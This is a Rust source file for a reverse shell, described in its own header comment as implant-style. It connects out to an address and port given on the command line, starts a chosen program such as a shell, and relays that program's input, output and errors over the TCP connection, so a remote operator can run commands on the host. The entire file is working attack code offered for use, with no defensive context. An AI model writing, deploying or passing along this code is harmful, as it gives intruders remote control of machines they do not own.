//! A reverse shell as implants with a session of their own do it: pump-rust ADDRESS:PORT PROGRAM [ARGS...]
//!
//! The program's streams are pipes; threads carry them, what it writes without looking at it: `io::copy` splices.

use std::{
    env,
    io::{self, Read, Write},
    net::{Shutdown, TcpStream},
    process::{Command, Stdio},
    thread,
};

fn main() -> io::Result<()> {
    let mut arguments = env::args().skip(1);
    let (Some(address), Some(program)) = (arguments.next(), arguments.next()) else {
        return Err(io::Error::other("pump-rust ADDRESS:PORT PROGRAM [ARGS...]"));
    };
    let connection = TcpStream::connect(address)?;
    let mut shell = Command::new(program)
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()?;
    if let Some(mut input) = shell.stdin.take() {
        let mut commands = connection.try_clone()?;
        // Not `io::copy`: a splice into a pipe keeps the program from reading the pipe until more comes.
        thread::spawn(move || -> io::Result<()> {
            let mut buffer = [0; 4096];
            loop {
                let length = commands.read(&mut buffer)?;
                if length == 0 {
                    return Ok(());
                }
                input.write_all(buffer.get(..length).unwrap_or_default())?;
            }
        });
    }
    if let Some(mut errors) = shell.stderr.take() {
        let mut answers = connection.try_clone()?;
        thread::spawn(move || io::copy(&mut errors, &mut answers));
    }
    if let Some(mut output) = shell.stdout.take() {
        io::copy(&mut output, &mut &connection)?;
    }
    connection.shutdown(Shutdown::Both)?;
    shell.wait().map(|_| ())
}
